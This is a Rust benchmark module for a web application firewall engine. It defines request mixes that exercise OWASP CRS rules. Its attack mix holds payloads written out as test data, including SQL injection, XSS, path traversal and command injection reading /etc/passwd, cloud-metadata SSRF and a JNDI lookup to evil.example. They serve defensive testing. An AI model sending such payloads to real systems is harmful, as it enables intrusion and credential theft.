//! Request mixes shared by the criterion benchmarks (`benches/engine.rs`,
//! the engine alone), the engine loop (`src/bin/palisade-engine-loop.rs`,
//! the engine alone, native or in V8) and the Envoy load runner
//! (`src/bin/palisade-bench.rs`), so all measure the same traffic.

pub mod wire;

use std::path::{Path, PathBuf};

use palisade_engine::config::Settings;
use palisade_engine::request::{Header, Request, ResponseData};
use palisade_engine::{Phase, Transaction};

/// One exchange as the filter drives the engine: the request's phases;
/// unless blocked, the response phases on what the test upstream answers
/// (`200`, a small JSON body, a media type `response_body` inspects by
/// default); then the logging phase, with the verdict built again for the
/// log line. CRS runs rules in all five phases, and its GET costs a sixth
/// more in V8 with the response and logging phases than without
/// (bench/README.md). The transaction is reused from request to request,
/// as the filter pools them. True when the exchange is blocked.
pub fn inspect(settings: &Settings, r: &MixRequest, tx: &mut Transaction) -> bool {
    let headers = r
        .headers
        .iter()
        .map(|(n, v)| Header::new(n.as_bytes(), v.as_bytes()))
        .collect();
    let mut req = Request::new(r.method, r.path.as_bytes(), &b"HTTP/1.1"[..], headers);
    tx.reset();
    let (engine, policy) = (&settings.engine, &settings.policy);
    if !engine.evaluate(Phase::Headers, &req, policy, tx) {
        if !r.body.is_empty() {
            req.attach_body(r.body.clone(), false, &settings.body.limits);
        }
        engine.evaluate(Phase::Body, &req, policy, tx);
    }
    let mut blocked = engine.verdict(policy, tx).is_blocked();
    if !blocked && engine.inspects_response(policy) {
        let (response, body) = upstream_response(r);
        req.response = Some(response);
        let decided = engine.evaluate(Phase::ResponseHeaders, &req, policy, tx);
        blocked = engine.verdict(policy, tx).is_blocked();
        if !(decided && blocked) {
            if settings.response_body.inspect && engine.inspects_response_body(policy) {
                if let Some(response) = req.response.as_mut() {
                    response.body = body;
                }
            }
            engine.evaluate(Phase::ResponseBody, &req, policy, tx);
            blocked = engine.verdict(policy, tx).is_blocked();
        }
    }
    if engine.runs_phase(policy, Phase::Logging) {
        engine.evaluate(Phase::Logging, &req, policy, tx);
        std::hint::black_box(engine.verdict(policy, tx));
    }
    blocked
}

/// What tests/src/bin/palisade-upstream.rs answers `r`: its head, and
/// the body apart (attached only when the body phase inspects it).
fn upstream_response(r: &MixRequest) -> (ResponseData, Vec<u8>) {
    let body = serde_json::json!({
        "upstream": "ok",
        "method": r.method,
        "path": r.path,
        "body_bytes": r.body.len(),
    })
    .to_string()
    .into_bytes();
    let headers = vec![
        Header::new(&b"content-type"[..], &b"application/json"[..]),
        Header::new(&b"content-length"[..], body.len().to_string().into_bytes()),
    ];
    let response = ResponseData {
        status: b"200".to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body: Vec::new(),
    };
    (response, body)
}

/// One request of a mix, as sent on the wire.
#[derive(Clone, Debug)]
pub struct MixRequest {
    pub method: &'static str,
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

/// The traffic shapes the issue asks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Mix {
    /// A plain GET with browser-like headers.
    Get,
    /// A 4 KB JSON POST.
    Json4k,
    /// A 64 KB multipart upload.
    Multipart64k,
    /// A URL with 50 query arguments.
    Args50,
    /// A stream of attacks (mostly blocked).
    Attacks,
}

impl Mix {
    pub const ALL: [Mix; 5] = [
        Mix::Get,
        Mix::Json4k,
        Mix::Multipart64k,
        Mix::Args50,
        Mix::Attacks,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Mix::Get => "GET",
            Mix::Json4k => "JSON 4 KB",
            Mix::Multipart64k => "multipart 64 KB",
            Mix::Args50 => "50 query args",
            Mix::Attacks => "attacks",
        }
    }

    /// The requests of this mix; a runner cycles through them.
    pub fn requests(self) -> Vec<MixRequest> {
        match self {
            Mix::Get => vec![get()],
            Mix::Json4k => vec![json_4k()],
            Mix::Multipart64k => vec![multipart_64k()],
            Mix::Args50 => vec![args_50()],
            Mix::Attacks => attacks(),
        }
    }
}

fn browser_headers() -> Vec<(String, String)> {
    [
        ("host", "bench.example"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("accept-language", "en-US,en;q=0.5"),
        ("accept-encoding", "gzip, deflate, br"),
        ("referer", "https://bench.example/products?page=2"),
        (
            "cookie",
            "session=6f1c2a9e0b7d4c3f8e5a1b2c3d4e5f60; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
        ),
        ("upgrade-insecure-requests", "1"),
    ]
    .iter()
    .map(|(n, v)| (n.to_string(), v.to_string()))
    .collect()
}

fn with_content_type(ct: &str) -> Vec<(String, String)> {
    let mut h = browser_headers();
    h.push(("content-type".to_string(), ct.to_string()));
    h
}

fn get() -> MixRequest {
    MixRequest {
        method: "GET",
        path: "/products/red-shoes?size=42&color=red".to_string(),
        headers: browser_headers(),
        body: Vec::new(),
    }
}

fn json_4k() -> MixRequest {
    let mut items = Vec::new();
    let mut i = 0;
    // Grow an order document until it is about 4 KB.
    loop {
        let item = format!(
            r#"{{"sku":"SKU-{i:05}","name":"Item number {i}, blue / large","qty":{},"price":{}.99,"note":"gift wrap; deliver after 5pm"}}"#,
            i % 7 + 1,
            i * 3 + 10
        );
        items.push(item);
        i += 1;
        if items.iter().map(String::len).sum::<usize>() > 3900 {
            break;
        }
    }
    let body = format!(
        r#"{{"customer":{{"name":"Jane O'Connor","email":"jane@example.com"}},"items":[{}]}}"#,
        items.join(",")
    );
    MixRequest {
        method: "POST",
        path: "/api/v1/orders".to_string(),
        headers: with_content_type("application/json"),
        body: body.into_bytes(),
    }
}

fn multipart_64k() -> MixRequest {
    let boundary = "----palisadebench7d93";
    let mut body = format!(
        "--{boundary}\r\ncontent-disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n\
         --{boundary}\r\ncontent-disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\n\
         content-type: text/csv\r\n\r\n"
    );
    let line = "2024-05-01,widget,42,19.99,\"north, east\"\r\n";
    while body.len() < 64 * 1024 - 64 {
        body.push_str(line);
    }
    body.push_str(&format!("\r\n--{boundary}--\r\n"));
    MixRequest {
        method: "POST",
        path: "/upload".to_string(),
        headers: with_content_type(&format!("multipart/form-data; boundary={boundary}")),
        body: body.into_bytes(),
    }
}

fn args_50() -> MixRequest {
    let query: Vec<String> = (0..50)
        .map(|i| format!("field{i}=value+number+{i}%2C+ok"))
        .collect();
    MixRequest {
        method: "GET",
        path: format!("/search?{}", query.join("&")),
        headers: browser_headers(),
        body: Vec::new(),
    }
}

fn attacks() -> Vec<MixRequest> {
    let paths = [
        "/?id=1%27%20OR%201=1--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/download?file=../../../../etc/passwd",
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
        "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
        // One in eight is clean, so the mix is "mostly blocked".
        "/products/red-shoes?size=42",
    ];
    paths
        .iter()
        .map(|p| MixRequest {
            method: "GET",
            path: p.to_string(),
            headers: browser_headers(),
            body: Vec::new(),
        })
        .collect()
}

/// The CRS checkout to benchmark: $PALISADE_CRS, else ../shared/crs.
pub fn crs_dir(root: &Path) -> Option<PathBuf> {
    let dir = std::env::var_os("PALISADE_CRS")
        .map(PathBuf::from)
        .unwrap_or_else(|| root.join("../shared/crs"));
    dir.join("rules").is_dir().then_some(dir)
}

/// CRS compiled as a user would (crs-setup.conf, then rules/*.conf), base64.
pub fn crs_ruleset_base64(dir: &Path) -> Result<String, String> {
    use base64::Engine as _;
    let mut paths = vec![dir.join("crs-setup.conf.example")];
    let mut rules: Vec<PathBuf> = std::fs::read_dir(dir.join("rules"))
        .map_err(|e| format!("{}: {e}", dir.display()))?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "conf"))
        .collect();
    rules.sort();
    paths.extend(rules);
    let (spec, _) = palisade_rules::compile_seclang(&paths, "OWASP CRS", false)
        .map_err(|e| format!("CRS at {} does not compile: {e}", dir.display()))?;
    Ok(base64::engine::general_purpose::STANDARD.encode(spec.to_artifact()))
}
